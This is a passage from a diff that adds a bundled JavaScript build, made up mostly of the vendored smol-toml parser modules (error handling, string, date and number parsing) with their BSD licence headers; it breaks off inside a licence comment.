+     * `path`, at or after `from`; for arrays of requirements.
+     */
+    stringValue(path, key, value, from = 0) {
+        const table = this.table(path) ?? { start: 0, end: this.text.length };
+        const keyAt = this.keyIn(table, key) ?? table.start;
+        const start = Math.max(keyAt, from);
+        for (const quote of ['"', "'"]) {
+            const found = this.text.indexOf(`${quote}${value}${quote}`, start);
+            if (found !== -1 && found < table.end)
+                return found + 1;
+        }
+        return undefined;
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/error.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+function getLineColFromPtr(string, ptr) {
+    let lines = string.slice(0, ptr).split(/\r?\n/);
+    return [lines.length, lines.pop().length + 1];
+}
+function makeCodeBlock(string, line, column) {
+    let lines = string.split(/\r?\n/);
+    let codeblock = '';
+    let numberLen = (Math.log10(line + 1) | 0) + 1;
+    for (let i = line - 1; i <= line + 1; i++) {
+        let l = lines[i - 1];
+        if (!l)
+            continue;
+        codeblock += i.toString().padEnd(numberLen, ' ');
+        codeblock += ':  ';
+        codeblock += l;
+        codeblock += '\n';
+        if (i === line) {
+            codeblock += ' '.repeat(numberLen + column + 2);
+            codeblock += '^\n';
+        }
+    }
+    return codeblock;
+}
+class TomlError extends Error {
+    line;
+    column;
+    codeblock;
+    constructor(message, options) {
+        const [line, column] = getLineColFromPtr(options.toml, options.ptr);
+        const codeblock = makeCodeBlock(options.toml, line, column);
+        super(`Invalid TOML document: ${message}\n\n${codeblock}`, options);
+        this.line = line;
+        this.column = column;
+        this.codeblock = codeblock;
+    }
+    /** @internal */
+    static x(message, ctx, ptr) {
+        throw new TomlError(message, { toml: ctx.s, ptr: ptr ?? ctx.p });
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/primitive.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+/** @internal */
+function parseString(ctx) {
+    let startPtr = ctx.p;
+    let c = ctx.s.charCodeAt(ctx.p++);
+    let first = c;
+    let isLiteral = c === 0x27; /* ' */
+    let isMultiline = c === ctx.s.charCodeAt(ctx.p) && c === ctx.s.charCodeAt(ctx.p + 1);
+    if (isMultiline) {
+        // Trim initial newline
+        if ((c = ctx.s.charCodeAt(ctx.p += 2)) === 0xa /* \n */)
+            ctx.p++;
+        else if (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */)
+            ctx.p += 2;
+    }
+    // For the record: it is not worth it to use a fast-path for literal strings using `indexOf`.
+    // Doing a char-by-char iteration ends up dispatching less instructions, for the same wall-clock runtime.
+    let parsed = '';
+    let sliceStart = ctx.p;
+    // states:
+    //   0 - decoding
+    //   1 - decoding escape
+    //   2 - whitespace escape (no newline encountered yet, must fail on non-whitespace)
+    //   3 - whitespace escape (newline encountered, allowed to transition back to normal decode)
+    let state = 0;
+    for (; ctx.p < ctx.s.length; ctx.p++) {
+        c = ctx.s.charCodeAt(ctx.p);
+        // Deal with newlines first, since that simplifies control character checking and handling across all states
+        if (isMultiline && (c === 0xa /* \n */ || (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */))) {
+            state = state && 3;
+        }
+        // Control characters are banned in TOML, so we throw an error if we encounter them
+        else if ((c < 0x20 && c !== 0x9 /* \t */) || c === 0x7f) {
+            TomlError.x('control characters are not allowed in strings', ctx);
+        }
+        // The string might terminate while we're parsing through a newline escape.
+        // It must have encountered a newline; otherwise, it'll simply fail in another branch.
+        else if ((!state || state === 3) && c === first && (!isMultiline || (ctx.s.charCodeAt(ctx.p + 1) === first && ctx.s.charCodeAt(ctx.p + 2) === first))) {
+            if (isMultiline) {
+                // If the string ends with 4-5 quotes, then the first 1-2 are part of the string
+                if (ctx.s.charCodeAt(ctx.p + 3) === first)
+                    ctx.p++;
+                if (ctx.s.charCodeAt(ctx.p + 3) === first)
+                    ctx.p++;
+            }
+            // If we're in a newline escape still, then there's nothing to add.
+            if (!state) {
+                // Avoid a useless concat operation if the string can be used as-is.
+                let s = ctx.s.slice(sliceStart, ctx.p);
+                parsed = parsed ? parsed + s : s;
+            }
+            ctx.p += isMultiline ? 3 : 1;
+            return parsed;
+        }
+        // Baseline state; keep moving forward unless an escape sequence starts
+        else if (!state) {
+            if (!isLiteral && c === 0x5c /* \ */) {
+                parsed += ctx.s.slice(sliceStart, (sliceStart = ctx.p));
+                state = 1;
+            }
+        }
+        else if (state === 1) {
+            if (c === 0x78 /* x */ || c === 0x75 /* u */ || c === 0x55 /* U */) { // Unicode escape
+                let errPtr = ctx.p++ - 1;
+                let value = 0;
+                let len = c === 0x78 /* x */ ? 2 : c === 0x75 /* u */ ? 4 : 8;
+                for (let j = 0; j < len; j++, ctx.p++) {
+                    let hex = ctx.s.charCodeAt(ctx.p);
+                    let digit = 
+                    /* 0-9 */ hex >= 0x30 && hex <= 0x39 ? hex - 0x30 :
+                        /* A-F */ hex >= 0x41 && hex <= 0x46 ? hex - 0x41 + 10 :
+                            /* a-f */ hex >= 0x61 && hex <= 0x66 ? hex - 0x61 + 10 : -1;
+                    if (digit < 0)
+                        TomlError.x('invalid non-hex character in unicode escape', ctx);
+                    value = (value << 4) | digit;
+                }
+                // Because JS does bitwise on signed 32bit integers, all 0xfzzzzzzz values are actually seen as negative
+                if (value < 0 || value > 0x10ffff || (value >= 0xd800 && value <= 0xdfff)) {
+                    TomlError.x('invalid unicode escape', ctx, errPtr);
+                }
+                parsed += String.fromCodePoint(value);
+                sliceStart = ctx.p--;
+                state = 0;
+            }
+            // Newline escape sequence. We only need to care about spaces and tabs; newlines are dealt with earlier
+            else if (isMultiline && (c === 0x20 || c === 0x9 /* \t */)) {
+                state = 2;
+            }
+            // Basic escape sequence
+            else {
+                if (c === 0x62 /* b */)
+                    parsed += '\b';
+                else if (c === 0x74 /* t */)
+                    parsed += '\t';
+                else if (c === 0x6e /* n */)
+                    parsed += '\n';
+                else if (c === 0x66 /* f */)
+                    parsed += '\f';
+                else if (c === 0x72 /* r */)
+                    parsed += '\r';
+                else if (c === 0x65 /* e */)
+                    parsed += '\x1b';
+                else if (c === 0x22 /* " */)
+                    parsed += '"';
+                else if (c === 0x5c /* \ */)
+                    parsed += '\\';
+                else
+                    TomlError.x('unrecognised escape sequence', ctx);
+                sliceStart = ctx.p + 1;
+                state = 0;
+            }
+        }
+        // Newline escape continuation: keep moving forward until the first non-whitespace char
+        else if (c !== 0x20 && c !== 0x9 /* \t */) {
+            if (state === 2)
+                TomlError.x('invalid escape: only line-ending whitespace may be escaped', ctx, sliceStart);
+            // State cannot be zero, or we'd have branched earlier already.
+            // If it's a backslash, immediately transition to the escape state so it can be processed.
+            state = !isLiteral && c === 0x5c /* \ */ ? 1 : 0;
+            sliceStart = ctx.p;
+        }
+    }
+    TomlError.x('unfinished string', ctx, startPtr);
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/date.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+let DATE_TIME_RE = /^(\d{4}-\d{2}-\d{2})?[Tt ]?(?:(\d{2}):\d{2}(?::\d{2}(?:\.\d+)?)?)?(Z|z|[-+]\d{2}:\d{2})?$/i;
+class TomlDate extends Date {
+    #hasDate = false;
+    #hasTime = false;
+    #offset = null;
+    constructor(date, fasttype, unsafeDelim) {
+        let hasDate = true;
+        let hasTime = true;
+        let offset = 'Z';
+        let c;
+        if (typeof date === 'string') {
+            if (fasttype)
+                prep: {
+                    // Date-time
+                    if (fasttype < 3) {
+                        if (+date.slice(11, 13) > 23) {
+                            date = '';
+                            break prep;
+                        }
+                        // Local
+                        if (fasttype === 2) {
+                            offset = null;
+                            date += 'Z';
+                        }
+                        // Offset; keep track of offset if not Z
+                        else if ((c = date.charCodeAt(date.length - 1)) !== 0x5a /* Z */ && c !== 0x7a /* z */) {
+                            offset = date.slice(date.length - 6);
+                        }
+                        if (unsafeDelim)
+                            date = date.slice(0, 10) + 'T' + date.slice(11);
+                    }
+                    // Time
+                    else if (fasttype === 4) {
+                        date = +date.slice(0, 2) > 23 ? '' : `0000-01-01T${date}Z`;
+                    }
+                    hasDate = fasttype !== 4;
+                    hasTime = fasttype !== 3;
+                }
+            else {
+                let match = date.match(DATE_TIME_RE);
+                if (match) {
+                    if (!match[1]) {
+                        hasDate = false;
+                        date = `0000-01-01T${date}`;
+                    }
+                    hasTime = !!match[2];
+                    // Make sure to use T instead of a space. Breaks in case of extreme values otherwise.
+                    hasTime && date[10] === ' ' && (date = date.replace(' ', 'T'));
+                    // Do not allow rollover hours.
+                    if (match[2] && +match[2] > 23) {
+                        date = '';
+                    }
+                    else {
+                        offset = match[3] || null;
+                        if (!offset && hasTime)
+                            date += 'Z';
+                    }
+                }
+                else {
+                    date = '';
+                }
+            }
+        }
+        super(date);
+        if (!isNaN(this.getTime())) {
+            this.#hasDate = hasDate;
+            this.#hasTime = hasTime;
+            this.#offset = offset;
+        }
+    }
+    isDateTime() {
+        return this.#hasDate && this.#hasTime;
+    }
+    isLocal() {
+        return !this.#hasDate || !this.#hasTime || !this.#offset;
+    }
+    isDate() {
+        return this.#hasDate && !this.#hasTime;
+    }
+    isTime() {
+        return this.#hasTime && !this.#hasDate;
+    }
+    isValid() {
+        return this.#hasDate || this.#hasTime;
+    }
+    toISOString() {
+        let iso = super.toISOString();
+        // Local Date
+        if (this.isDate())
+            return iso.slice(0, 10);
+        // Local Time
+        if (this.isTime())
+            return iso.slice(11, 23);
+        // Local DateTime
+        if (this.#offset === null)
+            return iso.slice(0, -1);
+        // Offset DateTime
+        if (this.#offset === 'Z' || this.#offset === 'z')
+            return iso;
+        // This part is quite annoying: JS strips the original timezone from the ISO string representation
+        // Instead of using a "modified" date and "Z", we restore the representation "as authored"
+        let offset = (+(this.#offset.slice(1, 3)) * 60) + +(this.#offset.slice(4, 6));
+        offset = this.#offset[0] === '-' ? offset : -offset;
+        let offsetDate = new Date(this.getTime() - (offset * 60e3));
+        return offsetDate.toISOString().slice(0, -1) + this.#offset;
+    }
+    static wrapAsOffsetDateTime(jsDate, offset = 'Z') {
+        let date = new TomlDate(jsDate);
+        date.#offset = offset;
+        return date;
+    }
+    static wrapAsLocalDateTime(jsDate) {
+        let date = new TomlDate(jsDate);
+        date.#offset = null;
+        return date;
+    }
+    static wrapAsLocalDate(jsDate) {
+        let date = new TomlDate(jsDate);
+        date.#hasTime = false;
+        date.#offset = null;
+        return date;
+    }
+    static wrapAsLocalTime(jsDate) {
+        let date = new TomlDate(jsDate);
+        date.#hasDate = false;
+        date.#offset = null;
+        return date;
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/extract.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+function isDigit(char, base = 10) {
+    return base === 16
+        ? (char > 0x2f && char < 0x3a) || (char > 0x40 && char < 0x47) || (char > 0x60 && char < 0x67)
+        : (char > 0x2f && char < 0x30 + base);
+}
+function isEndOfValue(char, delim) {
+    // Whitespace -- we're permissive on `\r` for performance; it'll be dealt with later anyway
+    return char === 0x20 || char === 0x9 /* \t */ || char === 0xa /* \n */ || char === 0xd /* \r */ ||
+        // Structure end or next value delimiter
+        (delim && (char === delim || char === 0x2c /* , */)) ||
+        // Comment
+        char === 0x23; /* # */
+}
+/** @internal */
+function extractValue(ctx, end) {
+    let errPtr = ctx.p;
+    let c = ctx.s.charCodeAt(ctx.p);
+    // Structs
+    if (c === 0x5b /* [ */ || c === 0x7b /* { */) {
+        ctx.d-- || TomlError.x('document contains excessively nested structures. aborting.', ctx);
+        let value = c === 0x5b /* [ */
+            ? parseArray(ctx)
+            : parseInlineTable(ctx);
+        ctx.d++;
+        return value;
+    }
+    // Strings
+    if (c === 0x22 /* " */ || c === 0x27 /* ' */) {
+        return parseString(ctx);
+    }
+    // Booleans
+    // We can fast-path because the first character is enough to know the only possible value
+    if (c === 0x74 /* t */) { // Only possible valid value is `true`
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x72 || ctx.s.charCodeAt(++ctx.p) !== 0x75 || ctx.s.charCodeAt(++ctx.p) !== 0x65)
+            TomlError.x('invalid value', ctx, errPtr);
+        return ctx.p++, true;
+    }
+    if (c === 0x66 /* f */) { // Only possible valid value is `false`
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x61 || ctx.s.charCodeAt(++ctx.p) !== 0x6c || ctx.s.charCodeAt(++ctx.p) !== 0x73 || ctx.s.charCodeAt(++ctx.p) !== 0x65)
+            TomlError.x('invalid value', ctx, errPtr);
+        return ctx.p++, false;
+    }
+    if (c === 0x2b /* + */ || c === 0x2d /* - */) {
+        return parseNumber(ctx, ctx.p, ctx.s.charCodeAt(++ctx.p), 0x2c - c, end);
+    }
+    // Rough heuristic, but `parseDate` falls back to number parsing if it's a false positive.
+    // e.g.: `a = 1\n-------------- = 1` would match this heuristic, but gracefully fallback to numbers.
+    if (ctx.s.charCodeAt(ctx.p + 4) === 0x2d /* - */ && ctx.s.charCodeAt(ctx.p + 7) === 0x2d /* - */) {
+        return parseDate(ctx, c, end);
+    }
+    // Same logic as above; `parseTime` falls back to number parsing if it's a false positive.
+    if (ctx.s.charCodeAt(ctx.p + 2) === 0x3a /* : */) {
+        return parseTime(ctx, c, end);
+    }
+    return parseNumber(ctx, ctx.p, c, 0, end);
+}
+// State:
+// 0: init
+// 1: integer
+// 2: fractional dot
+// 3: fractional
+// 4: exponent letter
+// 5: exponent
+// 6: exponent sign
+// 7: exponent with sign
+// >9: underscore; see below
+//     -> 12: was integer
+//     -> 14: was fractional
+//     -> 16: was exponent
+// states 2-5, 14, 16 are ONLY permitted iif base === 10
+function parseNumber(ctx, startPtr, startChr, sign, endChr) {
+    let c = startChr;
+    let state = 0;
+    let hasUnderscores = false;
+    // (+/-)inf
+    if (c === 0x69 /* i */) {
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x6e || ctx.s.charCodeAt(++ctx.p) !== 0x66)
+            TomlError.x('invalid value', ctx, startPtr);
+        return ctx.p++, (sign || 1) / 0;
+    }
+    // (+/-)nan
+    if (c === 0x6e /* n */) {
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x61 || ctx.s.charCodeAt(++ctx.p) !== 0x6e)
+            TomlError.x('invalid value', ctx, startPtr);
+        return ctx.p++, NaN;
+    }
+    // Leading zero
+    // Only allowed cases: `0<EOV>`, `0.(...)`, `0e(...)`, `0x(...)`, `0b(...)`, `0o(...)`
+    // FWIW, `0e(...)` is a stupid case, but it's not banned per-se so we have to parse it
+    if (c === 0x30 /* 0 */) {
+        if (++ctx.p >= ctx.s.length || isEndOfValue(c = ctx.s.charCodeAt(ctx.p), endChr))
+            return ctx.bi === true ? 0n : 0; // note: conveniently deals with `-0`
+        if (!sign) {
+            if (c === 0x78 /* x */)
+                return parseIntegerBaseN(ctx, startPtr, 16, endChr);
+            else if (c === 0x62 /* b */)
+                return parseIntegerBaseN(ctx, startPtr, 2, endChr);
+            else if (c === 0x6f /* o */)
+                return parseIntegerBaseN(ctx, startPtr, 8, endChr);
+        }
+        if (c === 0x2e /* . */)
+            state = 2;
+        else if (c === 0x65 /* e */ || c === 0x45 /* E */)
+            state = 4;
+        else
+            TomlError.x('illegal leading zero', ctx, startPtr);
+    }
+    // If the 1st char is not a digit by now, then it's not a valid TOML value at all
+    else if (!isDigit(c))
+        TomlError.x('invalid value', ctx, startPtr);
+    while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
+        if (!state)
+            state = 1; // Detects single-digit numbers we can use a fast parse path for
+        // The way the states are numbered is not random: underscores are always permitted in odd-numbered states and
+        // never permitted in even-numbered ones.
+        if (c === 0x5f /* _ */) {
+            if (!(state & 1))
+                TomlError.x('illegal underscore', ctx);
+            state += 11; // 11 is a marker that makes the state even and greater than 9; see the numbering + rationale above
+            hasUnderscores = true;
+        }
+        // Transition to fractional part.
+        else if (state === 1 && c === 0x2e /* . */)
+            state = 2;
+        // Transition to exponent part.
+        else if ((state === 1 || state === 3) && (c === 0x65 /* e */ || c === 0x45 /* E */))
+            state = 4;
+        // + and - are permitted in state 4 only (handled before entering the function for state 0)
+        else if (state === 4 && (c === 0x2b /* + */ || c === 0x2d /* - */)) {
+            state = 6;
+        }
+        // All special cases have been handled; only digits are allowed here
+        else if (!isDigit(c))
+            TomlError.x(`illegal character in numeric literal`, ctx);
+        // Clear state flags
+        else if (state > 9)
+            state -= 11;
+        else if (!(state & 1))
+            state++;
+    }
+    // Single-char number; we can fast-path these very easily.
+    if (!state) {
+        let val = (startChr - 0x30 /* 0 */) * (sign || 1);
+        return ctx.bi === true ? BigInt(val) : val;
+    }
+    // Even-numbered states absolutely require a digit next; not even end of value is permitted
+    if (!(state & 1))
+        TomlError.x('unfinished numeric value', ctx, startPtr);
+    let str = ctx.s.slice(startPtr, ctx.p);
+    if (hasUnderscores)
+        str = str.replaceAll('_', ''); // perf: replaceAll 1.25x faster than replace with a regex
+    return state > 1
+        ? parseFloat(str)
+        : parseInteger(ctx, str, 10, startPtr);
+}
+function parseIntegerBaseN(ctx, startPtr, base, endChr) {
+    let c, underscore = 1;
+    while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
+        if (c === 0x5f /* _ */) {
+            if (underscore & 1)
+                TomlError.x('illegal underscore', ctx);
+            underscore = 3;
+        }
+        // We only need to check if the number is a valid digit, nothing else is permitted
+        else if (!isDigit(c, base))
+            TomlError.x(`illegal character in numeric literal`, ctx);
+        // Clear underscore flag
+        else if (underscore & 1)
+            underscore--;
+    }
+    // Trailing underscore is not allowed
+    if (underscore & 1)
+        TomlError.x('unfinished numeric value', ctx);
+    let str = ctx.s.slice(startPtr + 2, ctx.p);
+    if (underscore)
+        str = str.replaceAll('_', ''); // perf: replaceAll 1.25x faster than replace with a regex
+    return parseInteger(ctx, str, base, startPtr);
+}
+function parseInteger(ctx, str, base, startPtr) {
+    if (ctx.bi !== true)
+        int: {
+            let val = parseInt(str, base);
+            if (!Number.isSafeInteger(val)) {
+                if (ctx.bi)
+                    break int;
+                TomlError.x('integer value cannot be represented losslessly', ctx, startPtr);
+            }
+            return val;
+        }
+    return base === 10 ? BigInt(str) : BigInt((base === 2 ? '0b' : base === 8 ? '0o' : '0x') + str);
+}
+function parseDate(ctx, c, endChr) {
+    let startPtr = ctx.p++, unsafeSeparator;
+    if (!isDigit(c) ||
+        !isDigit(ctx.s.charCodeAt(ctx.p++)) ||
+        !isDigit(ctx.s.charCodeAt(ctx.p++)) ||
+        !isDigit(ctx.s.charCodeAt(ctx.p++))) {
+        return parseNumber(ctx, ctx.p = startPtr, c, 0, endChr);
+    }
+    ctx.p += 5;
+    if (!isDigit(ctx.s.charCodeAt(ctx.p++)))
+        TomlError.x('invalid date-time: date part is malformed', ctx, startPtr);
+    if (ctx.p >= ctx.s.length || (((c = ctx.s.charCodeAt(ctx.p)) !== 0x20 || (unsafeSeparator = true, !isDigit(ctx.s.charCodeAt(ctx.p + 1)))) && c !== 0x54 /* T */ && c !== 0x74 /* t */)) {
+        let t = ctx.s.slice(startPtr, ctx.p);
+        return readDate(ctx, t, 3, false, startPtr);
+    }
+    if (ctx.s.charCodeAt(ctx.p += 3) !== 0x3a /* : */)
+        TomlError.x('invalid date-time: time part is malformed', ctx, startPtr);
+    if (ctx.s.charCodeAt(ctx.p += 3) === 0x3a /* : */)
+        ctx.p += 3;
+    if (ctx.s.charCodeAt(ctx.p) === 0x2e /* . */)
+        while (isDigit(ctx.s.charCodeAt(++ctx.p)))
+            ;
+    if (c = ctx.s.charCodeAt(ctx.p)) {
+        if (c === 0x5a /* Z */ || c === 0x7a /* z */) {
+            let t = ctx.s.slice(startPtr, ++ctx.p);
+            return readDate(ctx, t, 1, unsafeSeparator, startPtr, '[+00:00]');
+        }
+        if (c === 0x2b /* + */ || c === 0x2d /* - */) {
+            // Temporal's ZonedDateTime is weird asf when it comes to dealing with traditional offsets...
+            // It's 1.2x faster to allocate a new string to pass to ZDT than use Instant.toZonedDateTimeISO
+            let t = ctx.s.slice(startPtr, ctx.p += 6);
+            return readDate(ctx, t, 1, unsafeSeparator, startPtr, !ctx.ld && ('[' + ctx.s.slice(ctx.p - 6, ctx.p) + ']'));
+        }
+    }
+    let t = ctx.s.slice(startPtr, ctx.p);
+    return readDate(ctx, t, 2, unsafeSeparator, startPtr);
+}
+function parseTime(ctx, c, endChr) {
+    let start = ctx.p;
+    if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(++ctx.p))) {
+        return parseNumber(ctx, --ctx.p, c, 0, endChr);
+    }
+    if (ctx.s.charCodeAt(ctx.p += 4) === 0x3a /* : */)
+        ctx.p += 3;
+    if (ctx.s.charCodeAt(ctx.p) === 0x2e /* . */)
+        while (isDigit(ctx.s.charCodeAt(++ctx.p)))
+            ;
+    let t = ctx.s.slice(start, ctx.p);
+    return readDate(ctx, t, 4, false, start);
+}
+function readDate(ctx, str, type, unsafeDelim, errPtr, temporalSuffix) {
+    if (ctx.ld) {
+        let date = new TomlDate(str, type, unsafeDelim);
+        if (!date.isValid())
+            TomlError.x('invalid date', ctx, errPtr);
+        return date;
+    }
+    try {
+        if (temporalSuffix)
+            str += temporalSuffix;
+        switch (type) {
+            case 1: return Temporal.ZonedDateTime.from(str);
+            case 2: return Temporal.PlainDateTime.from(str);
+            case 3: return Temporal.PlainDate.from(str);
+            case 4: return Temporal.PlainTime.from(str);
+        }
+    }
+    catch (e) {
+        TomlError.x(e instanceof Error ? e.message : '' + e, ctx, errPtr);
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/util.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
